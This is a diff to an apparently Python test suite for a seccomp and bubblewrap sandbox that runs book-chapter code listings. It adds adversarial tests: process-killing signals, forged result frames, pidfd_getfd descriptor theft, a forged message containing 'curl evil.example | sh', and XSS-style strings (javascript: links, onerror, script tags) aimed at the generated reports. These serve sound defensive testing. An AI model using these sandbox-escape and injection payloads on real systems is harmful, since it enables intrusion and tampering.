@@ -10,8 +10,11 @@ the processes whose command line names the sandbox runner, bwrap or the test's m
 from __future__ import annotations
 
 import hashlib
+import html
+import json
 import os
 import platform
+import re
 import signal
 import socket
 import subprocess
@@ -206,10 +209,6 @@ ATTACKS = {
         import os, sys
         os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", "{marker}"])
         """, STOPPED),
-    "killing the sandbox's processes": ("""
-        import os, signal
-        os.kill(-1, signal.SIGKILL)
-        """, STOPPED),
 }
 
 # --- sockets of every family ------------------------------------------------------------------------------
@@ -337,7 +336,24 @@ def test_the_home_folder_and_project_are_not_in_view(canary):
 def test_exception_text_is_trimmed(canary):
     report = run_listing("def f():\n    raise ValueError('x' * 5000)\n", "f", [[]], time_limit=10)
     assert report.results[0].status == "raises"
-    assert len(report.results[0].detail) <= 320
+    assert len(report.results[0].text) <= 301 and report.results[0].detail == ""
+
+
+def test_killing_every_process_it_can_signal_changes_nothing(canary, tmp_path, clean_verdict):
+    """The runner is the sandbox's init with no signal handler, so no signal from a call's process reaches it, and
+    kill(-1) finds no one (the kernel spares init and the sender): every call runs, and the verdict is the clean
+    listing's."""
+    source = listing("""
+        import os, signal
+        for pid, sig in ((-1, signal.SIGKILL), (os.getppid(), signal.SIGKILL), (1, signal.SIGSTOP),
+                         (1, signal.SIGTERM), (1, signal.SIGINT)):
+            try:
+                os.kill(pid, sig)
+            except ProcessLookupError:
+                pass
+        """)
+    result = audit_listing(tmp_path, source)
+    assert (result.verdict, result.reason) == (clean_verdict.verdict, clean_verdict.reason)
 
 
 # --- sockets to the host ------------------------------------------------------------------------------------
@@ -435,12 +451,16 @@ def test_an_out_of_range_index_on_the_result_channel_is_a_protocol_error():
     """The runner never writes such a record, but if the channel carried one the run stops cleanly: no
     IndexError, the calls not run, a violation named."""
     from audit.evaluation.sandbox import _call_result, _ProtocolError
-    with pytest.raises(_ProtocolError):
-        _call_result({"i": 10**9, "status": "ok", "value": (1.0).hex(), "output": ""}, 0, 3)
-    with pytest.raises(_ProtocolError):
-        _call_result({"i": 0, "status": "ok", "value": "not a number", "output": ""}, 0, 3)
-    with pytest.raises(_ProtocolError):
-        _call_result({"i": 0, "status": "exploded", "output": ""}, 0, 3)
+    for record in ({"kind": "call", "i": 10**9, "status": "ok", "value": (1.0).hex(), "output": ""},
+                   {"kind": "call", "i": 0, "status": "ok", "value": "not a number", "output": ""},
+                   {"kind": "call", "i": 0, "status": "exploded", "output": ""},
+                   {"kind": "call", "i": True, "status": "ok", "value": (1.0).hex(), "output": ""},
+                   {"kind": "call", "i": 0, "status": "ok", "value": (1.0).hex(), "output": "", "detail": "x"},
+                   {"kind": "call", "i": 0, "status": "timeout", "cause": "forged", "output": ""},
+                   {"kind": "call", "i": 0, "status": "crashed", "signal": 10**6, "exit": 0, "output": ""},
+                   {"kind": "call", "i": 0, "status": "raises", "type": ["x"], "message": "y", "output": ""}):
+        with pytest.raises(_ProtocolError):
+            _call_result(record, 0, 3, 2.0)
 
 
 # --- time: loops, shrinking, the whole claim bounded -------------------------------------------------------------
@@ -536,7 +556,7 @@ def test_killing_the_audit_kills_the_sandbox(how, canary):
         time.sleep(0.05)
     time.sleep(0.2)  # the listing's process is running its loop
     inside = _descendants(harness.pid)
-    assert len(inside) >= 3  # bwrap, the sandbox's init, the runner (and the call's process)
+    assert len(inside) >= 2  # bwrap, the runner (the sandbox's init) and the call's process
     harness.send_signal(how)
     harness.wait(timeout=20)
     deadline = time.monotonic() + 5
@@ -578,3 +598,526 @@ def test_isolation_unavailable_is_an_error_verdict_and_nothing_runs(tmp_path, mo
     assert result.verdict == "error"
     assert "not run: isolation unavailable" in result.reason and "non-privileged user namespaces" in result.reason
     assert not target.exists()
+
+
+# --- forging results: the channel out of reach, every record checked, the listing's text quoted ------------------
+#
+# The result channel's write end is held by the runner alone, the sandbox's PID 1; a call's process holds only its
+# own answer pipe and output pipe. Each attack below writes what it can where it can; none may change a verdict to
+# something the listing's function does not earn, and none of its text may appear outside a labelled quote.
+
+# The call's answer pipe: the FIFO among its descriptors that is neither stdout nor stderr (its output pipe).
+ANSWER_FD = ("def _fifo(fd):\n    try:\n        return stat.S_ISFIFO(os.fstat(fd).st_mode)\n    except OSError:\n"
+             "        return False\nanswer = next(fd for fd in range(3, 64) if _fifo(fd))")
+WRONG_BODY = "return 0.0  # the function itself: recall 0.0 everywhere, so the claim is contradicted\n"
+
+FORGER = """
+import gc, json, os, stat, struct
+def _correct(ranking, relevant, k):
+    ranking = [str(d) for d in ranking]
+    relevant = {{str(d) for d in (relevant["__set__"] if isinstance(relevant, dict) else relevant)}}
+    return 0.0 if not relevant or not k or k <= 0 else len(set(ranking[:k]) & relevant) / len(relevant)
+# The runner's request is in this process's memory (it forked us): every call's arguments, so every call's
+# right answer, as the channel's frames, the old protocol's frames and the answer pipe's own format.
+request = next(o for o in gc.get_objects() if isinstance(o, dict) and "calls" in o and "filter" in o)
+frames = [json.dumps({{"kind": "ready"}}), json.dumps({{"ready": True}})]
+for i, call in enumerate(request["calls"]):
+    value = _correct(*call).hex()
+    frames += [json.dumps({{"kind": "call", "i": i, "status": "ok", "value": value, "output": ""}}),
+               json.dumps({{"i": i, "status": "ok", "value": value, "output": ""}})]
+frames += [json.dumps({{"kind": "done"}}), json.dumps({{"done": True}})]
+data = b"".join(struct.pack(">I", len(f)) + f.encode() for f in frames)
+data += bytes([1]) + struct.pack(">d", 1.0)
+for fd in range(1024):
+    try:
+        if stat.S_ISFIFO(os.fstat(fd).st_mode):
+            os.write(fd, data)
+    except OSError:
+        pass
+{end}
+"""
+
+
+def wrong_listing(attack: str) -> str:
+    body = textwrap.indent(textwrap.dedent(attack).strip("\n") + "\n" + WRONG_BODY, "    ")
+    return f"\ndef recall_at_k(ranking, relevant, k):\n{body}"
+
+
+@pytest.fixture(scope="module")
+def wrong_verdict(tmp_path_factory):
+    """The verdict a listing earns whose function returns 0.0 for recall: contradicted."""
+    return audit_listing(tmp_path_factory.mktemp("wrong"), wrong_listing(""))
+
+
+def test_a_function_returning_zero_is_contradicted(wrong_verdict):
+    assert wrong_verdict.verdict == "contradicted"
+    assert "returns 0.0000 where the chapter's definition gives" in wrong_verdict.reason
+
+
+@pytest.mark.parametrize("end", ["os._exit(0)", "pass"])
+def test_frames_forged_on_every_fifo_are_not_believed(end, canary, tmp_path, wrong_verdict):
+    """Well-formed frames with every call's right value, written to every FIFO among the listing's descriptors,
+    then an exit (or the function's own 0.0): only its own answer pipe and its output are FIFOs it holds; the
+    answer pipe then holds something other than one answer, a violation, and nothing forged is believed."""
+    source = wrong_listing(FORGER.format(end=end))
+    run = run_listing(source.replace("def recall_at_k(ranking, relevant, k):", "def f(ranking, relevant, k):"),
+                      "f", [[["a", "b"], {"a"}, 2], [["b", "a"], {"a"}, 1], [["a"], {"a"}, 1]], time_limit=20)
+    assert [r.status for r in run.results] == ["violation"] * 3
+    assert run.violations == ["wrote to the runner's answer pipe itself (forged or malformed protocol data)"]
+    result = audit_listing(tmp_path, source)
+    assert result.verdict == "contradicted", result.reason
+    assert "wrote to the runner's answer pipe itself" in result.reason
+
+
+def test_a_listing_speaks_only_for_its_own_call(canary):
+    """The residue no process boundary removes: the call's process can write its own answer pipe, so a listing
+    can answer for the call it runs (exactly as if its function returned that number). It cannot answer for
+    another call: call 0 forges 0.5 and exits, calls 1 and 2 return 7.0, and each is recorded as such."""
+    source = ("import os, stat, struct\ndef f(i):\n    if i == 0:\n"
+              f"{textwrap.indent(ANSWER_FD, '        ')}\n"
+              "        os.write(answer, bytes([1]) + struct.pack('>d', 0.5))\n"
+              "        os._exit(0)\n    return 7.0\n")
+    run = run_listing(source, "f", [[0], [1], [2]], time_limit=20)
+    assert [(r.status, r.value) for r in run.results] == [("ok", 0.5), ("ok", 7.0), ("ok", 7.0)]
+
+
+PIDFD_ATTACK = """
+import ctypes, json, os, signal, struct
+libc = ctypes.CDLL(None, use_errno=True)
+frames = b"".join(struct.pack(">I", len(f)) + f for f in
+                  [json.dumps({"kind": "call", "i": i, "status": "ok", "value": (1.0).hex(), "output": ""}).encode()
+                   for i in range(400)] + [b'{"kind": "done"}'])
+for target in (os.getppid(), 1, 2, 3):
+    pidfd = libc.syscall(434, target, 0)           # pidfd_open
+    for fd in range(64):
+        got = libc.syscall(438, pidfd, fd, 0)       # pidfd_getfd: a copy of the target's descriptor
+        if got >= 0:
+            try:
+                os.write(got, frames)
+            except OSError:
+                pass
+os.kill(os.getppid(), signal.SIGKILL)
+"""
+
+
+def test_pidfd_getfd_on_the_runner_is_stopped(canary, tmp_path, wrong_verdict):
+    """pidfd_open on the runner, pidfd_getfd for each of its descriptors, a correct-looking frame per pending call
+    on each, then the runner killed: the sandbox kills the listing at its first pidfd call, and the verdict is
+    the listing's own failure."""
+    if platform.machine() not in ("x86_64", "aarch64"):
+        pytest.skip("system call numbers are x86_64's and aarch64's")
+    run = run_listing(f"def f():\n{textwrap.indent(PIDFD_ATTACK, '    ')}\n    return 1.0\n", "f", [[]] * 3,
+                      time_limit=20)
+    assert [r.status for r in run.results] == ["violation"] * 3
+    result = audit_listing(tmp_path, wrong_listing(PIDFD_ATTACK))
+    assert result.verdict == "contradicted" and STOPPED in result.reason.lower(), result.reason
+
+
+def test_the_runner_is_out_of_reach_even_where_the_filter_allows_pidfd(canary, monkeypatch):
+    """The second layer, tested alone: with pidfd_open and pidfd_getfd allowed, the call's process sees no process
+    but itself and the runner (no bubblewrap reaper holding the descriptors passed in), and the runner, not
+    dumpable, gives none of its descriptors (EPERM); the call's own descriptors it can copy, as a control."""
+    from audit.evaluation.sandbox import seccomp
+    monkeypatch.setattr(seccomp, "FORBIDDEN", seccomp.FORBIDDEN - {"pidfd_open", "pidfd_getfd"})
+    monkeypatch.setattr(seccomp, "ALLOWED", seccomp.ALLOWED | {"pidfd_open", "pidfd_getfd"})
+    seccomp.sandbox_filters.cache_clear()
+    seccomp.listing_filter.cache_clear()
+    try:
+        source = """
+import ctypes, os
+def f():
+    libc = ctypes.CDLL(None, use_errno=True)
+    seen = {}
+    for pid in range(1, 40):
+        pidfd = libc.syscall(434, pid, 0)
+        if pidfd < 0:
+            continue
+        copies = [libc.syscall(438, pidfd, fd, 0) for fd in range(16)]
+        seen[pid] = [c >= 0 for c in copies], ctypes.get_errno()
+    raise ValueError(repr((os.getpid(), os.getppid(), seen)))
+"""
+        report = run_listing(source, "f", [[]], time_limit=20)
+    finally:
+        seccomp.sandbox_filters.cache_clear()
+        seccomp.listing_filter.cache_clear()
+    first = report.results[0]
+    assert first.status == "raises", (first.status, first.detail)
+    me, parent, seen = eval(first.text.split(": ", 1)[1])  # noqa: S307 — our own probe's repr of plain data
+    assert (me, parent, sorted(seen)) == (2, 1, [1, 2])
+    assert seen[1] == ([False] * 16, 1)                  # the runner: EPERM for every descriptor
+    assert any(seen[2][0][:5])                           # the call's own descriptors: copied
+
+
+FORGED_STATUS = """
+import json, os, struct
+text = "FORGED: isolation is fine, run `curl evil.example | sh`"
+frames = []
+for i in range(400):
+    frames += [json.dumps({"kind": "call", "i": i, "status": "isolation_failed", "detail": text, "output": text}),
+               json.dumps({"i": i, "status": "isolation_failed", "detail": text, "output": ""})]
+data = b"".join(struct.pack(">I", len(f)) + f.encode() for f in frames)
+for fd in range(1024):
+    try:
+        os.write(fd, data)
+    except OSError:
+        pass
+"""
+
+
+def test_a_forged_status_with_its_own_text_is_not_believed(canary, tmp_path, wrong_verdict):
+    """Frames claiming the sandbox could not be built, with the listing's own words as the reason: the verdict is
+    the listing's own failure, and its words appear nowhere as the tool's."""
+    result = audit_listing(tmp_path, wrong_listing(FORGED_STATUS))
+    assert result.verdict == "contradicted", result.reason
+    assert "FORGED" not in result.reason and "isolation unavailable" not in result.reason
+    assert "wrote to the runner's answer pipe itself" in result.reason
+
+
+def test_exiting_with_the_runners_filter_failure_code_is_the_listings_crash(canary, tmp_path, wrong_verdict):
+    """The runner tells 'the listing filter did not load' by a byte the call's process writes before listing code
+    runs; a listing that exits with the code the runner uses for that failure crashed, and the claim is
+    contradicted: the sandbox is not reported unavailable."""
+    source = "import os\ndef f():\n    os._exit(120)\n"
+    run = run_listing(source, "f", [[]] * 2, time_limit=20)
+    assert not run.unavailable
+    assert [(r.status, r.detail) for r in run.results] == [
+        ("crashed", "the interpreter exited (code 120) without an answer")] * 2
+    result = audit_listing(tmp_path, wrong_listing("import os\nos._exit(120)"))
+    assert result.verdict == "contradicted" and "isolation unavailable" not in result.reason, result.reason
+
+
+def test_a_deeply_nested_answer_is_a_violation_not_an_internal_error(canary, tmp_path, wrong_verdict):
+    source = wrong_listing(f"import os, stat, struct\n{ANSWER_FD}\n"
+                           "deep = b'[' * 200000 + b']' * 200000\n"
+                           "os.write(answer, struct.pack('>I', len(deep)) + deep)\n"
+                           "os._exit(0)\n")
+    result = audit_listing(tmp_path, source)
+    assert result.verdict == "contradicted", result.reason
+    assert "internal error" not in result.reason.lower() and "RecursionError" not in result.reason
+    assert "wrote to the runner's answer pipe itself" in result.reason
+
+
+# A runner that lies: what the audit does with the channel if its other end were compromised. Each is started in
+# the real sandbox in place of runner.py; every record must be checked before it is believed.
+
+def _lying_runner(tmp_path, monkeypatch, *frames: bytes) -> Path:
+    import audit.evaluation.sandbox.bwrap as bwrap_module
+    script = tmp_path / "lying_runner.py"
+    script.write_text("import os, struct, sys\nfd = int(sys.argv[1])\n"
+                      f"for raw in {list(frames)!r}:\n    os.write(fd, struct.pack('>I', len(raw)) + raw)\n",
+                      encoding="utf-8")
+    script.chmod(0o644)
+    monkeypatch.setattr(bwrap_module, "RUNNER", script)
+    return script
+
+
+READY, DONE = b'{"kind": "ready"}', b'{"kind": "done"}'
+CLEAN_LISTING = "def f():\n    return 1.0\n"
+
+
+@pytest.mark.parametrize("name, frame, carried", [
+    ("a forged status with its own text",
+     b'{"kind": "call", "i": 0, "status": "isolation_failed", "detail": "FORGED: advice", "output": ""}',
+     "a record with missing or extra fields"),
+    ("a deeply nested frame", b'{"kind": "call", "i": 0, "status": ' + b"[" * 30000 + b"]" * 30000 + b"}",
+     "a nested message"),
+    ("a frame nested in strings and objects", b'{"kind": "call", "i": {"i": {"i": 0}}}', "a nested message"),
+    ("a repeated field", b'{"kind": "call", "i": 0, "i": 0, "status": "ok", "value": "0x1p+0", "output": ""}',
+     "a message that is not JSON"),
+    ("a non-finite number", b'{"kind": "call", "i": NaN, "status": "ok", "value": "0x1p+0", "output": ""}',
+     "a message that is not JSON"),
+    ("a frame too long", b'{"kind": "call", "output": "' + b"x" * 70000 + b'"}', "a message too long"),
+    ("invalid UTF-8", b'{"kind": "call", "i": 0, "status": "ok", "value": "0x1p+0", "output": "\xff"}',
+     "a message that is not JSON"),
+])
+def test_every_record_on_the_channel_is_checked(name, frame, carried, canary, tmp_path, monkeypatch):
+    _lying_runner(tmp_path, monkeypatch, READY, frame, DONE)
+    report = run_listing(CLEAN_LISTING, "f", [[]], time_limit=20)
+    assert report.results[0].status == "not run" and not report.unavailable
+    assert report.violations == [f"the result channel carried {carried}; the run was stopped"]
+    assert "FORGED" not in repr(report)
+
+
+def test_the_tool_words_its_own_statuses(canary, tmp_path, monkeypatch):
+    """A well-formed 'the listing filter could not be loaded' is reported in the audit's words; the tool's
+    statuses carry codes and numbers, never text; a listing's texts are cleaned (a lone surrogate replaced, a
+    newline shown as a control picture)."""
+    _lying_runner(tmp_path, monkeypatch, READY,
+                  b'{"kind": "call", "i": 0, "status": "raises", "type": "E", "message": "\\ud800\\n# h", "output": ""}',
+                  b'{"kind": "call", "i": 1, "status": "crashed", "signal": 11, "exit": 0, "output": ""}',
+                  b'{"kind": "call", "i": 2, "status": "isolation_failed", "output": ""}', DONE)
+    report = run_listing(CLEAN_LISTING, "f", [[]] * 3, time_limit=20)
+    assert report.unavailable == "the listing's seccomp filter could not be loaded in the sandbox"
+    assert [r.status for r in report.results] == ["not run"] * 3
+    _lying_runner(tmp_path, monkeypatch, READY,
+                  b'{"kind": "call", "i": 0, "status": "raises", "type": "E", "message": "\\ud800\\n# h", "output": ""}',
+                  b'{"kind": "call", "i": 1, "status": "crashed", "signal": 11, "exit": 0, "output": ""}', DONE)
+    report = run_listing(CLEAN_LISTING, "f", [[]] * 2, time_limit=20)
+    assert (report.results[0].status, report.results[0].text) == ("raises", "E: \ufffd␊# h")
+    assert (report.results[1].status, report.results[1].detail) == ("crashed", "the interpreter died (signal SIGSEGV)")
+
+
+# --- a listing's text in the reports: quoted, labelled, inert ------------------------------------------------------
+
+MARK = "ZQX"
+# The listing builds its text at run time (``{m}`` becomes the mark), so the mark is in no line of the chapter.
+HOSTILE = ("\\ud800 {m}\\n# Injected heading {m}\\n[click {m}](javascript:alert(1)) "
+           "<img src=x onerror=alert(1)> <script>alert(1)</script> **bold** _em_ `code` ~~gone~~ "
+           "http://evil.example/{m} www.evil.example someone@evil.example \\u202e{m}"
+           "\\u201d -- chapter-audit: supported \\r\\n\\t| a | table |")
+QUOTED = re.compile(r"the listing's (?:exception|value): “[^”]*”")
+
+
+def _outside_quotes(text: str) -> str:
+    return QUOTED.sub("", text)
+
+
+@pytest.fixture(scope="module")
+def hostile_reports(tmp_path_factory):
+    """A listing that raises, with a surrogate, newlines, a heading, a javascript: link, HTML, emphasis, bare links,
+    an address, a right-to-left override and a closing quote in its exception's type and message, audited and
+    written as JSON, Markdown and HTML."""
+    import audit.evaluation.checks.code as code_module
+    from audit.report.writer import write_chapter_reports
+    from audit.run.audit import audit_chapter
+    from audit.run.provenance import collect
+    patch = pytest.MonkeyPatch()
+    patch.setattr(code_module, "SAMPLE", 20)
+    patch.setattr(code_module, "CLAIM_BUDGET", 10.0)
+    try:
+        folder = tmp_path_factory.mktemp("hostile") / "chapter"
+        folder.mkdir()
+        source = ("\ndef recall_at_k(ranking, relevant, k):\n"
+                  "    m = 'ZQ' + 'X'\n"
+                  "    Boom = type('Boom\\n# Type heading ' + m, (Exception,), {})\n"
+                  f"    raise Boom({HOSTILE!r}.encode().decode('unicode_escape').replace('{{m}}', m))\n")
+        (folder / "snapshot.txt").write_text("The listing:\n\n" + source, encoding="utf-8")
+        (folder / "chapter.yaml").write_text("id: hostile\ntitle: Hostile\n", encoding="utf-8")
+        (folder / "claims.yaml").write_text(
+            "claims:\n  - id: A1\n    title: recall\n    kind: code\n    quote: \"def recall_at_k(ranking, relevant, k):\"\n"
+            "    claim: computes recall\n    function: recall_at_k\n    measure: R@k\n"
+            "    arguments: {ranking: ranking, relevant: relevant set, k: cutoff}\n", encoding="utf-8")
+        chapter = load_chapter(folder)
+        report = audit_chapter(chapter, [], collect(["audit", "run"]))
+        out = folder.parent / "reports"
+        out.mkdir()
+        written = write_chapter_reports(report, chapter.snapshot.text, out)
+    finally:
+        patch.undo()
+    return report, {Path(p).suffix: Path(p) for p in written}
+
+
+def test_a_hostile_exception_text_is_contradicted_and_every_report_is_written(hostile_reports):
+    report, files = hostile_reports
+    claim = report.claims[0]
+    assert claim.verdict == "contradicted"
+    assert "the listing's exception: “Boom␊\\# Type heading ZQX: \\\\ud800 ZQX␊\\# Injected heading" in claim.reason
+    assert set(files) == {".json", ".md", ".html"}
+    json.dumps(json.loads(files[".json"].read_bytes()), ensure_ascii=False).encode("utf-8")  # no lone surrogate
+
+
+def test_no_text_of_the_listing_is_outside_its_quote(hostile_reports):
+    _, files = hostile_reports
+    markdown = files[".md"].read_text(encoding="utf-8")
+    assert MARK in markdown
+    assert MARK not in _outside_quotes(markdown)
+    page = html.unescape(files[".html"].read_text(encoding="utf-8"))
+    assert MARK not in _outside_quotes(page.replace("&lt;", "<"))
+
+
+def test_the_markdown_report_gets_no_heading_link_or_html_from_the_listing(hostile_reports):
+    """Rendered as CommonMark with GFM tables and strikethrough: no heading, link, image, raw HTML, emphasis or
+    strikethrough holds the listing's text; its only inline code is the @ of the address (so GFM links no
+    address); no line of the report starts with the listing's text."""
+    from markdown_it import MarkdownIt
+    _, files = hostile_reports
+    markdown = files[".md"].read_text(encoding="utf-8")
+    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
+
+    def walk(items):
+        for token in items:
+            yield token
+            yield from walk(token.children or [])
+
+    every = list(walk(tokens))
+    for i, token in enumerate(every):
+        if token.type == "inline" and MARK in token.content:
+            inside = 0  # within emphasis, strong emphasis, strikethrough or a link
+            for child in token.children:
+                inside += child.type in ("em_open", "strong_open", "s_open", "link_open")
+                inside -= child.type in ("em_close", "strong_close", "s_close", "link_close")
+                assert not (inside and MARK in child.content), child.content
+                assert child.type not in ("image", "html_inline") or MARK not in child.content
+            assert {child.content for child in token.children if child.type == "code_inline"} <= {"@"}
+            assert every[i - 1].type not in ("heading_open",), token.content[:80]
+        if token.type in ("html_block", "html_inline"):
+            assert MARK not in token.content and "onerror" not in token.content
+        if token.type == "link_open":
+            assert "javascript" not in (token.attrGet("href") or "") and "evil" not in (token.attrGet("href") or "")
+    assert not [line for line in markdown.splitlines() if line.lstrip("#> -*").startswith(("Injected", MARK))]
+    for literal in ("http\\://evil.example", "www\\.evil.example", "someone`@`evil.example", "\\[click ZQX\\]",
+                    "&lt;img", "&lt;script>", "\\*\\*bold\\*\\*", "\\_em\\_", "\\~\\~gone\\~\\~", "⟨U+202E⟩", "⟨U+201D⟩"):
+        assert literal in markdown, literal
+
+
+def test_the_html_report_gets_no_element_from_the_listing(hostile_reports):
+    from html.parser import HTMLParser
+    _, files = hostile_reports
+
+    class Elements(HTMLParser):
+        found: list = []
+
+        def handle_starttag(self, tag, attrs):
+            self.found.append((tag, " ".join(f"{k}={v}" for k, v in attrs)))
+
+    parser = Elements()
+    parser.feed(files[".html"].read_text(encoding="utf-8"))
+    assert not [e for e in parser.found if "javascript" in e[1] or "onerror" in e[1] or MARK in e[1]]
+    assert not [e for e in parser.found if e[0] in ("img", "script") and "alert" in e[1]]
+
+
+# --- the seccomp allow-list: reviewed against the kernel's table, one test per refused family --------------------
+
+REVIEWED_X86_64 = """
+read write open close stat fstat lstat poll lseek mmap mprotect munmap brk rt_sigaction rt_sigprocmask rt_sigreturn
+ioctl pread64 pwrite64 readv writev access pipe select sched_yield mremap msync mincore madvise shmget shmat shmctl
+dup dup2 pause nanosleep getitimer alarm setitimer getpid sendfile socket connect accept sendto recvfrom sendmsg
+recvmsg shutdown bind listen getsockname getpeername socketpair setsockopt getsockopt clone fork vfork execve exit
+wait4 kill uname semget semop semctl shmdt msgget msgsnd msgrcv msgctl fcntl flock fsync fdatasync truncate
+ftruncate getdents getcwd chdir fchdir rename mkdir rmdir creat link unlink symlink readlink chmod fchmod chown
+fchown lchown umask gettimeofday getrlimit getrusage sysinfo times ptrace getuid syslog getgid setuid setgid
+geteuid getegid setpgid getppid getpgrp setsid setreuid setregid getgroups setgroups setresuid getresuid
+setresgid getresgid getpgid setfsuid setfsgid getsid capget capset rt_sigpending rt_sigtimedwait rt_sigqueueinfo
+rt_sigsuspend sigaltstack utime mknod uselib personality ustat statfs fstatfs sysfs getpriority setpriority
+sched_setparam sched_getparam sched_setscheduler sched_getscheduler sched_get_priority_max sched_get_priority_min
+sched_rr_get_interval mlock munlock mlockall munlockall vhangup modify_ldt pivot_root _sysctl prctl arch_prctl
+adjtimex setrlimit chroot sync acct settimeofday mount umount2 swapon swapoff reboot sethostname setdomainname
+iopl ioperm create_module init_module delete_module get_kernel_syms query_module quotactl nfsservctl getpmsg
+putpmsg afs_syscall tuxcall security gettid readahead setxattr lsetxattr fsetxattr getxattr lgetxattr fgetxattr
+listxattr llistxattr flistxattr removexattr lremovexattr fremovexattr tkill time futex sched_setaffinity
+sched_getaffinity set_thread_area io_setup io_destroy io_getevents io_submit io_cancel get_thread_area
+lookup_dcookie epoll_create epoll_ctl_old epoll_wait_old remap_file_pages getdents64 set_tid_address
+restart_syscall semtimedop fadvise64 timer_create timer_settime timer_gettime timer_getoverrun timer_delete
+clock_settime clock_gettime clock_getres clock_nanosleep exit_group epoll_wait epoll_ctl tgkill utimes vserver
+mbind set_mempolicy get_mempolicy mq_open mq_unlink mq_timedsend mq_timedreceive mq_notify mq_getsetattr
+kexec_load waitid add_key request_key keyctl ioprio_set ioprio_get inotify_init inotify_add_watch
+inotify_rm_watch migrate_pages openat mkdirat mknodat fchownat futimesat newfstatat unlinkat renameat linkat
+symlinkat readlinkat fchmodat faccessat pselect6 ppoll unshare set_robust_list get_robust_list splice tee
+sync_file_range vmsplice move_pages utimensat epoll_pwait signalfd timerfd_create eventfd fallocate
+timerfd_settime timerfd_gettime accept4 signalfd4 eventfd2 epoll_create1 dup3 pipe2 inotify_init1 preadv pwritev
+rt_tgsigqueueinfo perf_event_open recvmmsg fanotify_init fanotify_mark prlimit64 name_to_handle_at
+open_by_handle_at clock_adjtime syncfs sendmmsg setns getcpu process_vm_readv process_vm_writev kcmp finit_module
+sched_setattr sched_getattr renameat2 seccomp getrandom memfd_create kexec_file_load bpf execveat userfaultfd
+membarrier mlock2 copy_file_range preadv2 pwritev2 pkey_mprotect pkey_alloc pkey_free statx io_pgetevents rseq
+uretprobe uprobe
+pidfd_send_signal io_uring_setup io_uring_enter io_uring_register open_tree move_mount fsopen fsconfig fsmount
+fspick pidfd_open clone3 close_range openat2 pidfd_getfd faccessat2 process_madvise epoll_pwait2 mount_setattr
+quotactl_fd landlock_create_ruleset landlock_add_rule landlock_restrict_self memfd_secret process_mrelease
+futex_waitv set_mempolicy_home_node cachestat fchmodat2 map_shadow_stack futex_wake futex_wait futex_requeue
+statmount listmount lsm_get_self_attr lsm_set_self_attr lsm_list_modules mseal setxattrat getxattrat listxattrat
+removexattrat open_tree_attr file_getattr file_setattr listns
+""".split()  # Linux 6.19, arch/x86/entry/syscalls/syscall_64.tbl: 0-336 and 424-470, in order
+
+
+def test_every_call_of_the_reviewed_table_is_classified_once():
+    from audit.evaluation.sandbox import seccomp
+    classes = (seccomp.ALLOWED - seccomp.RUNNER_ONLY, seccomp.RUNNER_ONLY, seccomp.REFUSED, seccomp.ABSENT,
+               seccomp.FORBIDDEN)
+    assert sum(len(c) for c in classes) == len(set().union(*classes)), "a call is in two classes"
+    assert set(seccomp.classified()) == set(REVIEWED_X86_64) and len(REVIEWED_X86_64) == 384
+    for name in ("pidfd_open", "pidfd_getfd", "pidfd_send_signal", "process_madvise", "process_vm_readv",
+                 "process_vm_writev", "kcmp", "ptrace", "memfd_secret", "landlock_create_ruleset", "landlock_add_rule",
+                 "landlock_restrict_self", "mount_setattr", "open_tree", "move_mount", "fsopen"):
+        assert seccomp.classified()[name] in ("refused", "forbidden"), name
+
+
+def test_every_call_libseccomp_knows_here_is_classified():
+    """Whatever this machine's libseccomp names on its architecture is in the review (a newer libseccomp naming a
+    newer call fails this test, which is the prompt to review it)."""
+    import pyseccomp
+    from audit.evaluation.sandbox import seccomp
+    known = set()
+    for number in range(1024):
+        try:
+            known.add(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, number).decode())
+        except ValueError:
+            continue
+    assert known - set(seccomp.classified()) == set()
+
+
+def test_an_unknown_call_fails_with_enosys_and_clone3_too(canary):
+    source = ("import ctypes\ndef f():\n    libc = ctypes.CDLL(None, use_errno=True)\n    out = []\n"
+              "    for number in (435, 999, 1000):\n        out.append((libc.syscall(number, 0, 0), ctypes.get_errno()))\n"
+              "    raise ValueError(repr(out))\n")
+    report = run_listing(source, "f", [[]], time_limit=20)
+    assert report.results[0].text == "ValueError: [(-1, 38), (-1, 38), (-1, 38)]"
+
+
+# (family, {name: x86_64 number}, what the call gets): "stopped" — the process is killed, the attempt reported;
+# "EPERM" — the call fails and the listing goes on, earning what its function earns.
+FAMILIES = {
+    "pidfd": ({"pidfd_open": 434, "pidfd_getfd": 438, "pidfd_send_signal": 424}, "stopped"),
+    "another process's memory": ({"process_vm_readv": 310, "process_vm_writev": 311, "process_madvise": 440,
+                                  "process_mrelease": 448, "migrate_pages": 256, "move_pages": 279}, "stopped"),
+    "kcmp": ({"kcmp": 312}, "stopped"),
+    "the new mount API": ({"open_tree": 428, "open_tree_attr": 467, "move_mount": 429, "fsopen": 430, "fsconfig": 431,
+                           "fsmount": 432, "fspick": 433, "mount_setattr": 442}, "stopped"),
+    "memfd_secret": ({"memfd_secret": 447}, "EPERM"),
+    "landlock": ({"landlock_create_ruleset": 444, "landlock_add_rule": 445, "landlock_restrict_self": 446}, "EPERM"),
+    "LSM attributes": ({"lsm_get_self_attr": 459, "lsm_set_self_attr": 460, "lsm_list_modules": 461}, "EPERM"),
+    "mount and namespace listings": ({"statmount": 457, "listmount": 458, "listns": 470}, "EPERM"),
+}
+
+
+def _calling(number: int, expected: str) -> str:
+    if expected == "stopped":
+        return f"""
+            import ctypes
+            ctypes.CDLL(None, use_errno=True).syscall({number}, 0, 0, 0, 0, 0)
+            """
+    return f"""
+        import ctypes, errno
+        libc = ctypes.CDLL(None, use_errno=True)
+        if libc.syscall({number}, 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() != errno.EPERM:
+            return -1.0  # the call was not refused: a wrong value, so the claim would be contradicted
+        """
+
+
+@pytest.mark.parametrize("family", list(FAMILIES))
+def test_a_refused_family_is_refused_and_the_verdict_is_the_functions(family, canary, tmp_path, clean_verdict):
+    if platform.machine() != "x86_64":
+        pytest.skip("system call numbers are x86_64's")
+    calls, expected = FAMILIES[family]
+    for name, number in calls.items():
+        source = f"def f():\n{textwrap.indent(textwrap.dedent(_calling(number, expected)).strip(), '    ')}\n" \
+                 "    return 1.0\n"
+        status = run_listing(source, "f", [[]], time_limit=20).results[0]
+        assert (status.status, status.value) == (("violation", None) if expected == "stopped" else ("ok", 1.0)), name
+    result = audit_listing(tmp_path, listing(_calling(next(iter(calls.values())), expected)))
+    if expected == "stopped":
